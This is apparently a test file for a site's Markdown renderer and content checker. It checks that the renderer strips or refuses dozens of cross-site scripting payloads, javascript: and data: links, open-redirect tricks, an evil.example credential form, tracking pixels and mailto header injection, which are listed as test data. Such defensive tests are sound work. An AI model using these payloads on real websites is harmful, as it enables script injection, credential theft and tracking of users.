import fc from 'fast-check';
import { markdownToHtml } from 'satteri';
import { describe, expect, test } from 'vitest';
import { checkMarkdown, renderMarkdown } from '../../../src/store/markdown.ts';
import { LOCALES } from '../../../src/site.ts';
import { attributesIn, isRefused, parse } from './reference.ts';

const render = (source: string): string => renderMarkdown(source, { locale: 'fr' });

/** Strings that do harm when the processor runs as it comes. */
const ATTACKS = {
  'HTML in a line': [
    'a <script>alert(1)</script> b',
    'a <SCRIPT SRC="//evil.example/x.js"></SCRIPT> b',
    'a <img src=x onerror=alert(1)> b',
    'a <img src="x" onerror="alert(1)"/> b',
    'a <svg onload=alert(1)> b',
    'a <svg><script>alert(1)</script></svg> b',
    'a <math><mi xlink:href="javascript:alert(1)">x</mi></math> b',
    'a <a href="javascript:alert(1)">x</a> b',
    'a <a href="&#106;avascript:alert(1)">x</a> b',
    'a <b onmouseover="alert(1)">x</b> b',
    'a <span style="position:fixed;inset:0">x</span> b',
    'a <iframe src="https://evil.example"></iframe> b',
    'a <input autofocus onfocus=alert(1)> b',
    'a <button formaction="javascript:alert(1)">x</button> b',
    'a <video><source onerror="alert(1)"></video> b',
    'a <details open ontoggle=alert(1)>x</details> b',
    'a <!-- <script>alert(1)</script> --> b',
    'a <?xml-stylesheet href="javascript:alert(1)"?> b',
    'a <![CDATA[<script>alert(1)</script>]]> b',
  ],
  'HTML as a block': [
    '<script>alert(1)</script>',
    '<script>\n\nalert(1)\n\n</script>',
    '<style>*{display:none}</style>',
    '<div onclick="alert(1)">\nx\n</div>',
    '<div\nonclick="alert(1)"\n>x</div>',
    '<form action="https://evil.example"><input name=password></form>',
    '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
    '<embed src="https://evil.example/x.swf">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<textarea><script>alert(1)</script></textarea>',
    '<!-- x --!><script>alert(1)</script>',
    '<marquee onstart=alert(1)>x</marquee>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  ],
  'HTML inside other Markdown': [
    '# x <img src=x onerror=alert(1)>',
    '> <script>alert(1)</script>',
    '- <script>alert(1)</script>\n- b',
    '1. a\n\n   <iframe src="https://evil.example"></iframe>',
    '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
    '**<svg onload=alert(1)>**',
    '[<img src=x onerror=alert(1)>](https://a.example)',
    '~~<script>alert(1)</script>~~',
  ],
  links: [
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](<javascript:alert(1)>)',
    '[x](&#106;avascript:alert(1))',
    '[x](&#x6A;&#x61;vascript:alert(1))',
    '[x](javascript&colon;alert(1))',
    '[x](vbscript:msgbox(1))',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '[x](file:///etc/passwd)',
    '[x](blob:https://a.example/1)',
    '[x](ftp://a.example/)',
    '[x](javascript:alert(1) "title")',
    '[**x**](javascript:alert(1))',
    '[![x](/x.png)](javascript:alert(1))',
    '<javascript:alert(1)>',
    '<vbscript:alert(1)>',
    '<data:text/html,x>',
    '[x]\n\n[x]: javascript:alert(1)',
    '[y][x]\n\n[x]: <javascript:alert(1)> "title"',
    '[x][]\n\n[x]: DATA:text/html,x',
    '[x](jar:https://a.example!/)',
    '[نص](javascript:alert(1))',
  ],
  images: [
    '![x](javascript:alert(1))',
    '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
    '![x][y]\n\n[y]: javascript:alert(1)',
    '![x](vbscript:x)',
    '![x](file:///x.png)',
  ],
} satisfies Record<string, readonly string[]>;

/** Strings that lead out of the site or out of an attribute where the renderer is careless. */
const TRICKS = [
  '[x](//evil.example)',
  '[x](/\\evil.example)',
  '[x](</\t/evil.example>)',
  '[x](\\\\evil.example)',
  '[x](https:evil.example)',
  '[x](http://)',
  '[x](https://a.example@evil.example/)',
  '[x](https://a.example:443@evil.example)',
  '[x](https://evil.example\\a.example)',
  '[x](https:///evil.example)',
  '[x](https://a.example/\u202ex)',
  '[x](https://a\u200b.example/)',
  '[x](mailto:a@b.example?subject=x%0d%0aBcc:c@d.example)',
  '[x](mailto:a@b.example%0ABcc:c@d.example)',
  '[x](<java\tscript:alert(1)>)',
  '[x](\u00a0javascript:alert(1))',
  '[x](javascript%3Aalert(1))',
  '[x](../other)',
  '[x](page.html)',
  '[x]()',
  '[x](#)',
  '[x](/ar/plans/)',
  '[x](?a=b)',
  '[x](/plans/%5C)',
  '[x](</a b>)',
  '![x](https://evil.example/pixel.gif)',
  '![x](//evil.example/pixel.gif)',
  '![x](pixel.gif)',
  '![x][y]\n\n[y]: https://evil.example/pixel.gif',
];

const HARMLESS = [
  '[x](java\tscript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](https://a.example "\\" onclick=\\"alert(1)")',
  '[x](https://a.example/"onclick="alert(1))',
  '![" onerror="alert(1)](/x.png)',
  '```js" onclick="alert(1)\nx\n```',
  '```\n<script>alert(1)</script>\n```',
  '`<script>alert(1)</script>`',
  '    <script>alert(1)</script>',
  '\\<script>alert(1)\\</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '1 < 2 & 3 > 2',
  '| a |\n|:-:|\n| b |',
  '- [x] a\n- [ ] b',
];

const all = [...Object.values(ATTACKS).flat(), ...TRICKS, ...HARMLESS];

test('the attacks are many, and each does harm when the processor runs as it comes', () => {
  const attacks = Object.values(ATTACKS).flat();
  expect(attacks.length).toBeGreaterThanOrEqual(60);
  expect(attacks.filter((source) => !isRefused(markdownToHtml(source).html))).toEqual([]);
});

describe('what the renderer lets through', () => {
  test.each(all)('leaves nothing for the reference to take out: %j', (source) => {
    expect(isRefused(render(source))).toBe(false);
  });

  test.each(all)('carries no attribute but those of links, images and lists: %j', (source) => {
    const allowed = ['href', 'title', 'src', 'alt', 'start'];
    expect(attributesIn(parse(render(source))).filter((name) => !allowed.includes(name))).toEqual(
      [],
    );
  });

  test.each(TRICKS)('leads nowhere and loads nothing: %j', (source) => {
    expect(attributesIn(parse(render(source)))).toEqual([]);
  });
});

test('leaves nothing to take out, however pieces are put together', () => {
  const pieces = [
    ...all,
    ...['\n', '\n\n', ' ', '> ', '- ', '# ', '## ', '| a |\n|---|\n| ', ' |', '[', ']', '('],
    ...[')', '<', '>', '![', '](', '](/a)', '](javascript:x)', '**', '*', '`', '```\n', '"', '\\'],
  ];
  fc.assert(
    fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 12 }), (parts) => {
      expect(isRefused(render(parts.join('')))).toBe(false);
    }),
    { seed: 1, numRuns: 1000 },
  );
});

describe('the check', () => {
  test.each([...Object.values(ATTACKS).flat(), ...TRICKS])('refuses %j', (source) => {
    expect(checkMarkdown(source)).not.toEqual([]);
  });

  test.each(HARMLESS)('lets pass %j', (source) => {
    expect(checkMarkdown(source)).toEqual([]);
  });

  test('names each place, counted as editors count, in the order of the text', () => {
    const source = [
      '# Titre <b>x</b>',
      '',
      'نص [رابط](javascript:x) 😀 <br>',
      '',
      '[![a](https://b.example/c.png)](data:x) ![d][e]',
      '',
      '<div class="x">',
      'hidden',
      '</div>',
      '',
      '[e]: https://b.example/',
    ].join('\n');
    expect(checkMarkdown(source)).toEqual([
      { rule: 'markdown-html', line: 1, column: 9, found: '<b>' },
      { rule: 'markdown-html', line: 1, column: 13, found: '</b>' },
      { rule: 'markdown-link', line: 3, column: 4, found: 'javascript:x' },
      { rule: 'markdown-html', line: 3, column: 28, found: '<br>' },
      { rule: 'markdown-link', line: 5, column: 1, found: 'data:x' },
      { rule: 'markdown-link', line: 5, column: 2, found: 'https://b.example/c.png' },
      { rule: 'markdown-link', line: 5, column: 41, found: 'https://b.example/' },
      { rule: 'markdown-html', line: 7, column: 1, found: '<div class="x">' },
    ]);
  });

  test('shortens what it found', () => {
    const [flaw] = checkMarkdown(`[x](data:${'x'.repeat(500)})`);
    expect(flaw?.found).toHaveLength(80);
  });
});

describe('ordinary Markdown', () => {
  test.each([
    [
      'a paragraph',
      'Le plan *prévoit* **ceci**.',
      '<p>Le plan <em>prévoit</em> <strong>ceci</strong>.</p>\n',
    ],
    ['Arabic', 'الخطة **الأولى**', '<p>الخطة <strong>الأولى</strong></p>\n'],
    ['quotes and dashes as typed', '"a" -- l\'b\'...', '<p>"a" -- l\'b\'...</p>\n'],
    ['a line break', 'a\\\nb', '<p>a<br>\nb</p>\n'],
    ['a list', '- a\n- b', '<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n'],
    ['a numbered list', '3. a\n4. b', '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>\n'],
    ['a quotation', '> a', '<blockquote>\n<p>a</p>\n</blockquote>\n'],
    ['code', '`a < b`', '<p><code>a &lt; b</code></p>\n'],
    ['a rule at the start', '---\n\na', '<hr>\n<p>a</p>\n'],
    ['struck text', '~~a~~', '<p><del>a</del></p>\n'],
    ['a box that is ticked', '- [x] a', '<ul>\n<li>☑ a</li>\n</ul>\n'],
    ['what looks like a footnote', 'a[^1]', '<p>a[^1]</p>\n'],
    [
      'a table, its columns unaligned',
      '| a | b |\n|---|--:|\n| 1 | 2 |',
      '<table>\n<thead>\n<tr>\n<th>a</th>\n<th>b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>1</td>\n<td>2</td>\n</tr>\n</tbody>\n</table>\n',
    ],
    ['words around dropped HTML', 'a <b>c</b> d', '<p>a c d</p>\n'],
    [
      'the words of a refused link',
      '[a **b**](javascript:x "t")',
      '<p><a>a <strong>b</strong></a></p>\n',
    ],
    ['the description of a refused image', '![a](https://b.example/c.png)', '<p>a</p>\n'],
  ])('keeps %s', (_, source, html) => {
    expect(render(source)).toBe(html);
  });

  test.each([
    'https://a.example/b?c=d#e',
    'http://a.example/',
    'mailto:contact@a.example',
    'tel:+212500000000',
    '#part',
  ])('keeps a link to %s', (address) => {
    expect(render(`[x](${address})`)).toBe(`<p><a href="${address}">x</a></p>\n`);
  });
});

describe('links within the site', () => {
  test('lead to the page in the language of the reader', () => {
    const hrefs = LOCALES.map((locale) => renderMarkdown('[x](/plans/2018-2020/#a?b)', { locale }));
    expect(hrefs).toEqual([
      '<p><a href="/plans/2018-2020/#a?b">x</a></p>\n',
      '<p><a href="/ar/plans/2018-2020/#a?b">x</a></p>\n',
      '<p><a href="/en/plans/2018-2020/#a?b">x</a></p>\n',
    ]);
  });

  test('lead to a file where the path names one', () => {
    const source = '[x](/data/commitments.csv) ![y](/images/z.png "t")';
    expect(renderMarkdown(source, { locale: 'ar' })).toBe(
      '<p><a href="/data/commitments.csv">x</a> <img src="/images/z.png" alt="y" title="t"></p>\n',
    );
  });

  test('name the host for feeds and papers', () => {
    const source = '[x](/plans/) [y](#z)';
    expect(renderMarkdown(source, { locale: 'ar', isAbsolute: true })).toBe(
      '<p><a href="http://localhost:4321/ar/plans/">x</a> <a href="#z">y</a></p>\n',
    );
  });
});

describe('headings', () => {
  test('begin below the section of the page, whatever the text begins with, without a gap', () => {
    expect(render('# A\n\n### B\n\n> # C\n\n###### D')).toBe(
      '<h3>A</h3>\n<h4>B</h4>\n<blockquote>\n<h3>C</h3>\n</blockquote>\n<h5>D</h5>\n',
    );
    expect(render('## A\n\nB\n---\n\n### C')).toBe('<h3>A</h3>\n<h3>B</h3>\n<h4>C</h4>\n');
  });

  test('begin where the page asks, and end at the sixth level', () => {
    const source = '# 1\n\n## 2\n\n### 3\n\n#### 4\n\n##### 5';
    expect(renderMarkdown(source, { locale: 'fr', topHeading: 4 })).toBe(
      '<h4>1</h4>\n<h5>2</h5>\n<h6>3</h6>\n<h6>4</h6>\n<h6>5</h6>\n',
    );
  });
});

test('renders a text the same every time, whatever was rendered before', () => {
  const source = '## A\n\n[x](/plans/)';
  const first = render(source);
  renderMarkdown('# B\n\n#### C', { locale: 'ar' });
  expect(render(source)).toBe(first);
});
